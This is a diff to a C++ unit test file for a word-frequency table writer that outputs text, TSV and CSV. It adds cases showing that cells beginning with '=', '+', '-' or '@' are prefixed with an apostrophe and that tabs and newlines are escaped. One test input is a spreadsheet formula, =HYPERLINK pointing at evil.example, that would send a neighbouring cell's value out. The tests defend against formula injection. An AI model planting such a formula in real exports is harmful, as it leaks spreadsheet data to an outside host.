@@ -30,8 +30,11 @@ TEST(HitTableText, WritesEachFormatWithItsHeaderSeparatorsAndQuoting)
         {"а,б", 0.5, 5, 0},
         {"\"кв\"", 12345678.0, 7, 1},
         {"с\nтрока", 0.0, 0, 0},
+        {"=HYPERLINK(\"http://evil.example/?\"&A1,\"клик\")", 1.0, 1, 2},
+        {"+7\tр\\б", -0.5, -5, 0},  // a negative count stays a number
     };
-    const std::vector<std::string> names = {"Первый", "Второй, с запятой"};
+    // Names come spelled: "\\" is one backslash.
+    const std::vector<std::string> names = {"Первый", "Второй, с запятой", "@я\\\\x"};
     const struct
     {
         TTableFormat Format;
@@ -43,13 +46,17 @@ TEST(HitTableText, WritesEachFormatWithItsHeaderSeparatorsAndQuoting)
          "дом\t327,58000\t32758\tВторой, с запятой\n"
          "а,б\t0,50000\t5\tПервый\n"
          "\"кв\"\t1,234568E7\t7\tВторой, с запятой\n"
-         "с\nтрока\t0,00000\t0\tПервый"},
+         "с\\x0Aтрока\t0,00000\t0\tПервый\n"
+         "'=HYPERLINK(\"http://evil.example/?\"&A1,\"клик\")\t1,00000\t1\t'@я\\\\x\n"
+         "'+7\\x09р\\\\б\t-0,50000\t-5\tПервый"},
         {TTableFormat::Csv, "\r\n",
          "word,ipm,count,dictionary\r\n"
          "дом,327.58000,32758,\"Второй, с запятой\"\r\n"
          "\"а,б\",0.50000,5,Первый\r\n"
          "\"\"\"кв\"\"\",1.234568E7,7,\"Второй, с запятой\"\r\n"
-         "\"с\nтрока\",0.00000,0,Первый"},
+         "\"с\nтрока\",0.00000,0,Первый\r\n"
+         "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"клик\"\")\",1.00000,1,'@я\\\\x\r\n"
+         "\"'+7\tр\\б\",-0.50000,-5,Первый"},
     };
     for (const auto& c : cases) {
         SCOPED_TRACE(c.Table);
@@ -68,18 +75,22 @@ TEST(CompareTableText, WritesEachFormatWithDashesOrEmptyFieldsWhereAWordIsAbsent
         {"дом", {327.58, 241.48}},
         {"ёж", {std::nullopt, 2.0}},
         {"\"а\"", {1.0, std::nullopt}},
+        {"-\tа", {std::nullopt, 3.0}},
     };
-    const std::vector<std::string> names = {"A", "Б,В"};
+    const std::vector<std::string> names = {"A", "=Б,В"};
     const struct
     {
         TTableFormat Format;
         const char* Table;
     } cases[] = {
-        {TTableFormat::Text, "дом = 327,58000 | 241,48000\nёж = - | 2,00000\n\"а\" = 1,00000 | -"},
+        {TTableFormat::Text,
+         "дом = 327,58000 | 241,48000\nёж = - | 2,00000\n\"а\" = 1,00000 | -\n-\tа = - | 3,00000"},
         {TTableFormat::Tsv,
-         "word\tA\tБ,В\nдом\t327,58000\t241,48000\nёж\t\t2,00000\n\"а\"\t1,00000\t"},
+         "word\tA\t'=Б,В\nдом\t327,58000\t241,48000\nёж\t\t2,00000\n\"а\"\t1,00000\t\n"
+         "'-\\x09а\t\t3,00000"},
         {TTableFormat::Csv,
-         "word,A,\"Б,В\"\nдом,327.58000,241.48000\nёж,,2.00000\n\"\"\"а\"\"\",1.00000,"},
+         "word,A,\"'=Б,В\"\nдом,327.58000,241.48000\nёж,,2.00000\n\"\"\"а\"\"\",1.00000,\n"
+         "\"'-\tа\",,3.00000"},
     };
     for (const auto& c : cases) {
         SCOPED_TRACE(c.Table);
@@ -117,6 +128,15 @@ TEST(CompareRows, OrdersByLargestIpmOrAlphabeticallyAndKeepsThoseReachingTheMini
     // The minimum applies to the largest ipm: ель (1 and 5) stays at 5, ерш goes.
     EXPECT_THAT(Words(CompareRows(hits, columns, 5.0, true)), ElementsAre("ель", "ёж", "жук"));
     EXPECT_THAT(Words(CompareRows(hits, columns, 9.5, false)), ElementsAre());
+}
+
+TEST(CompareRows, WhatTheTickThrowsEndsTheWork)
+{
+    // Hits enough for the tick, which stands for a front end's time limit, to be called.
+    const std::vector<THitRecord> hits(100000, {"кот", 1.0, 1, 0});
+    const std::vector<std::size_t> columns = {0};
+    EXPECT_THROW(CompareRows(hits, columns, 0.0, false, [] { throw ESearchTimeLimit("limit"); }),
+                 ESearchTimeLimit);
 }
 
 // The listing and records of test over the rows ticked, with the ipm shown.
